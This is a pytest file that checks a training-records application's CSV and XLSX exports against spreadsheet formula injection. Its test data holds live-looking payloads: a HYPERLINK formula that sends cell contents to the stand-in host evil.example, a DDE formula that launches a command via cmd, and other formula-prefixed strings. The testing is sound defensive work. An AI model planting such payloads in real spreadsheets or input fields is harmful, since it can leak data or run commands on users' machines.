"""Spreadsheet formula injection: text an officer, trainer or judge controls (names, units,
roles, judges, question text) that starts with = + - @, a tab or CR must never reach a report
or export as a live formula. CSV cells get a leading ' (OWASP); XLSX cells are string cells;
the bank export → import round trip keeps such text exact."""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from fazhi import db
from fazhi.models import Officer
from fazhi.models.bank import Bank
from fazhi.models.exam import Exam, ExamResult
from fazhi.reporting.cells import is_formula_like
from fazhi.roster import parse_roster, store_roster
from fazhi.settings import Settings
from fazhi.tabular import LOCAL_TZ

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
PLUS, MINUS, AT = "+1+1", "-2+3", "@SUM(1+1)"
TAB, CR = "\t=1+1", "\r=1+1"
# name of each officer, unit of the first
OFFICERS = [
    ("CG001", HYPERLINK, "@SUM(1+1)局/一中队"),
    ("CG002", DDE, "某市城管局/东城大队"),
    ("CG003", PLUS, "某市城管局/东城大队"),
    ("CG004", MINUS, "某市城管局/东城大队"),
    ("CG005", AT, "某市城管局/东城大队"),
]
NAMES = [name for _, name, _ in OFFICERS]


def roster_csv(path: Path) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["工号", "姓名", "单位", "职务类别", "执法人员", "执法证有效期至"])
        for officer_id, name, unit in OFFICERS:
            writer.writerow([officer_id, name, unit, "一般干部", "是", "2026-02-01"])
    return path


@pytest.fixture
def hostile(workspace: Settings, tmp_path: Path) -> Settings:
    """A workspace whose roster names and units are formula payloads."""
    with db.session_scope(workspace) as session:
        store_roster(session, parse_roster(roster_csv(tmp_path / "名册.csv")))
    return workspace


def csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def assert_csv_safe(path: Path, payloads: list[str]) -> None:
    """No cell would run in a spreadsheet, and each payload is there, quoted."""
    cells = csv_cells(path)
    assert [c for c in cells if is_formula_like(c)] == []
    for payload in payloads:
        assert "'" + payload in cells, payload


def xlsx_values(path: Path) -> Iterator[tuple[object, str]]:
    for sheet in load_workbook(path):
        for row in sheet.iter_rows():
            for cell in row:
                yield cell.value, cell.data_type


def assert_xlsx_safe(path: Path, payloads: list[str]) -> None:
    """No cell is a formula, and each payload is there as the exact text."""
    cells = list(xlsx_values(path))
    assert [v for v, kind in cells if kind == "f"] == []
    values = {v for v, _ in cells}
    for payload in payloads:
        assert payload in values, payload


@pytest.mark.db
@pytest.mark.parametrize("weekly", [False, True], ids=["summary", "weekly"])
def test_compliance_report(hostile: Settings, cli, tmp_path: Path, weekly: bool) -> None:  # type: ignore[no-untyped-def]
    """Are officers' names and units inert in the compliance report's CSV and XLSX?"""
    flags = ["--weekly"] if weekly else []
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"合规.{fmt}"
        result = cli(
            "report", "compliance", "--year", "2026", "--as-of", "2026-01-31", *flags,
            "--format", fmt, "--out", out, "-w", hostile.workspace,
        )  # fmt: skip
        assert result.exit_code == 0, result.output
        if fmt == "csv":
            # the weekly CSV has no names; the summary has names and units
            payloads = [] if weekly else [*NAMES, "@SUM(1+1)局/一中队"]
            assert_csv_safe(out, payloads)
        else:
            assert_xlsx_safe(out, NAMES)


def add_exam_results(settings: Settings) -> None:
    """A closed exam with every officer's result, recorded straight in fazhi's database."""
    with db.session_scope(settings) as session:
        closes = dt.datetime(2026, 1, 20, 18, tzinfo=LOCAL_TZ).astimezone(dt.UTC)
        exam = Exam(
            name="m1", title="=1+1 考试", mode="all", seed=1, closes=closes, pass_mark=0.6,
            blueprint=[], created_at=closes,
        )  # fmt: skip
        session.add(exam)
        session.flush()
        for officer in session.scalars(select(Officer)):
            session.add(
                ExamResult(
                    exam_id=exam.id,
                    officer_id=officer.id,
                    attempt=1,
                    score=8.0,
                    max_score=10.0,
                    passed=True,
                    late=False,
                    submitted_at=closes,
                    graded_at=closes,
                )
            )


@pytest.mark.db
def test_exam_scores_report(hostile: Settings, cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Are officers' names and units inert in ``fazhi report scores`` CSV and XLSX?"""
    add_exam_results(hostile)
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"成绩.{fmt}"
        result = cli(
            "report", "scores", "m1", "--format", fmt, "--out", out, "-w", hostile.workspace
        )
        assert result.exit_code == 0, result.output
        check = assert_csv_safe if fmt == "csv" else assert_xlsx_safe
        check(out, [*NAMES, "@SUM(1+1)局/一中队"])


@pytest.mark.db
def test_compliance_report_lists_exam_titles_inertly(
    hostile: Settings, cli, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    """Is a trainer's exam title like ``=1+1 考试`` a string cell in the compliance XLSX?"""
    add_exam_results(hostile)
    out = tmp_path / "合规.xlsx"
    result = cli(
        "report", "compliance", "--year", "2026", "--as-of", "2026-01-31", "--format", "xlsx",
        "--out", out, "-w", hostile.workspace,
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert_xlsx_safe(out, ["=1+1 考试"])


def mockcourt_file(path: Path) -> Path:
    rubric = ["事实认定", "法律适用", "程序规范", "庭审表达", "文书质量"]
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["场次", "日期", "工号", "角色", "评委", "评分维度", "得分"])
        for judge in (DDE, AT, "王法官"):
            for dimension in rubric:
                writer.writerow(["MC-1", "2026-03-10", "CG001", HYPERLINK, judge, dimension, 80])
    return path


@pytest.mark.db
def test_mockcourt_report(hostile: Settings, tmp_path: Path) -> None:
    """Are a participant's role and judges' names inert in the mock-court CSV and XLSX?"""
    from fazhi.mockcourt.report import write_report
    from fazhi.mockcourt.store import import_file

    import_file(settings=hostile, path=mockcourt_file(tmp_path / "评分.csv"))
    assert_csv_safe(write_report(settings=hostile, fmt="csv", out=tmp_path / "mc.csv"), [HYPERLINK])
    out = write_report(settings=hostile, fmt="xlsx", out=tmp_path / "mc.xlsx")
    assert_xlsx_safe(out, [HYPERLINK, DDE, AT])


def test_hr_dashboard_export(tmp_path: Path) -> None:
    """Is HR's dashboard export (one sheet per table) free of live formulas?"""
    from fazhi.analytics.views import export_view

    people = pd.DataFrame(
        {"工号": ["CG001", "CG002"], "姓名": [HYPERLINK, DDE], "单位": [AT, "局"]}
    )
    out = export_view({"人员": people}, tmp_path / "看板.xlsx")
    assert_xlsx_safe(out, [HYPERLINK, DDE, AT])


def test_csv_writer_neutralises_every_dangerous_start(tmp_path: Path) -> None:
    """Does the CSV writer quote text starting with = + - @ tab CR, and leave numbers alone?"""
    from fazhi.reporting.csv_writer import write_csv

    texts = [HYPERLINK, DDE, PLUS, MINUS, AT, TAB, CR]
    frame = pd.DataFrame({"text": [*texts, "-0.25", "+3", "安全"]})
    cells = csv_cells(write_csv(frame, tmp_path / "t.csv"))
    assert cells[1:] == ["'" + t for t in texts] + ["-0.25", "+3", "安全"]


BANK_HEADER = [
    "id",
    "type",
    "stem",
    "option_a",
    "option_b",
    "answer",
    "points",
    "basis",
    "explanation",
]
BANK_ROWS = [
    ["Q-1", "single", "=1+1", "@SUM(A1)", "+A1", "A", "1", "《行政处罚法》第五条", DDE],
    ["Q-2", "fill", "-2+3 等于几？", "", "", "=1", "1", "《行政处罚法》第六条", HYPERLINK],
]
BANK_FIELDS = ("code", "type", "stem", "options", "answer", "points", "basis", "explanation")


@pytest.mark.db
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_bank_export_round_trip(workspace: Settings, cli, tmp_path: Path, suffix: str) -> None:  # type: ignore[no-untyped-def]
    """Is a bank export inert in a spreadsheet, and does it import again exactly (=1+1 stays)?"""
    source = tmp_path / "bank.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([BANK_HEADER, *BANK_ROWS])
    ws = workspace.workspace
    assert cli("bank", "import", source, "--bank", "b", "-w", ws).exit_code == 0
    out = tmp_path / f"导出{suffix}"
    result = cli("bank", "export", "b", "--out", out, "-w", ws)
    assert result.exit_code == 0, result.output
    payloads = ["=1+1", "@SUM(A1)", "+A1", DDE, HYPERLINK, "-2+3 等于几？"]
    if suffix == ".csv":
        assert_csv_safe(out, payloads)
    else:
        assert_xlsx_safe(out, payloads)
    again = cli("bank", "import", out, "--bank", "b", "-w", ws)
    assert "新增 0 题，修改 0 题" in again.stdout, again.output
    assert cli("bank", "import", out, "--bank", "copy", "-w", ws).exit_code == 0
    with db.session_scope(workspace) as session:
        banks = {b.name: b for b in session.scalars(select(Bank))}

        def fields(name: str) -> list[list[object]]:
            versions = [q.current for q in banks[name].questions]
            return [[getattr(v, f) for f in BANK_FIELDS] for v in versions]

        assert fields("copy") == fields("b")
        assert [row[2] for row in fields("copy")] == ["=1+1", "-2+3 等于几？"]


def test_hub_own_rows_carry_the_text_itself(tmp_path: Path) -> None:
    """Does an officer's own-rows JSON from the hub show their name without the CSV's quote?"""
    from fazhi.hub.reports import own_rows
    from fazhi.reporting.csv_writer import write_csv

    frame = pd.DataFrame({"officer_id": ["CG001", "CG002"], "name": [HYPERLINK, "李娜"]})
    data = write_csv(frame, tmp_path / "r.csv").read_bytes()
    assert own_rows(data, "CG001") == [{"officer_id": "CG001", "name": HYPERLINK}]
